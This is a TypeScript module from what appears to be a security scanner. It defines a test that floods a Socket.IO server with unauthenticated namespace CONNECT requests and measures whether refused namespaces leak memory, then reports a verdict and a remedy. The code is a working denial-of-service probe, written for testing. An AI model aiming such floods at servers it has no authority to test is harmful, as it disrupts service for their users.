import { encodePacket } from '../../../target/wire/index.ts'
import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { readGauge } from '../../kit/namespace-gauge.ts'
import { namespacesScript } from '../../kit/namespaces-script.ts'
import { atHome } from '../../kit/own-namespace.ts'
import { openRaw } from '../../kit/raw-connection.ts'
import { visits } from '../../sends.ts'

const connections = 60
/** Few for each: how many CONNECTs a connection may try is another defence. */
const each = 4

export default defineAttack({
  id: 'nsp/dynamic-leak-memory',
  rows: ['nsp.dynamic.leak-memory'],
  title: 'Hundreds of new names of a dynamic namespace, all refused, without a token: how many does the server keep?',
  requirement: 'CWE-772: what was made for a client that was turned away is taken away again',
  impact: 'Socket.IO keeps each with an adapter of its own, for good: a stranger fills the memory by asking for names.',
  remedy: 'Set cleanupEmptyChildNamespaces: true, and decide in the function of io.of(…) which names there can be.',
  severity: 'high',
  cwe: ['CWE-770', 'CWE-772'],
  references: ['API4:2023'],
  provenBy: 'dyn-nsp-no-cleanup',
  needs: ['ownNamespace', 'metrics', 'addresses'],
  effect: 'disrupt',
  holds: 'nothing',
  loud: true,
  sends: visits(connections),
  async run(context) {
    const { target, ownNamespace, metrics } = context
    const before = await readGauge(context, metrics)
    const home = await atHome(context, context.victim)
    const withHome = await readGauge(context, metrics)
    if (withHome <= before) return inconclusive('the gauge does not rise when a user enters a new namespace')
    context.note('measured', `${before} namespaces, ${withHome} when a user is in his own`)
    await home.close()
    let asked = 0
    for (let i = 0; i < connections; i++) {
      const raw = await openRaw(context)
      if (raw === undefined) continue
      for (let j = 0; j < each; j++) {
        const nsp = String(target.fill([ownNamespace], { user: context.canary() })[0])
        raw.engine.send(encodePacket({ type: 'connect', nsp, data: {} }).text)
      }
      if (await raw.receivedAtLeast(each, context.settleMs)) asked += each
      raw.engine.kill()
    }
    await context.wait(context.settleMs, 'for the server to take them away')
    const kept = (await readGauge(context, metrics)) - before
    context.note('measured', `${asked} names were asked for and answered; ${kept} more namespaces than before`)
    const { observation } = await control(context, 'an honest client', await openWitness(context))
    if (asked < (connections * each) / 2) return inconclusive('most were not answered', context.evidence)
    context.recording.written(namespacesScript(context, connections, each))
    if (kept > asked / 2) return vulnerable(context.evidence)
    // Others may be in namespaces of their own meanwhile.
    return kept <= asked / 10
      ? resisted(observation, context.evidence)
      : inconclusive('some of them are kept', context.evidence)
  },
})
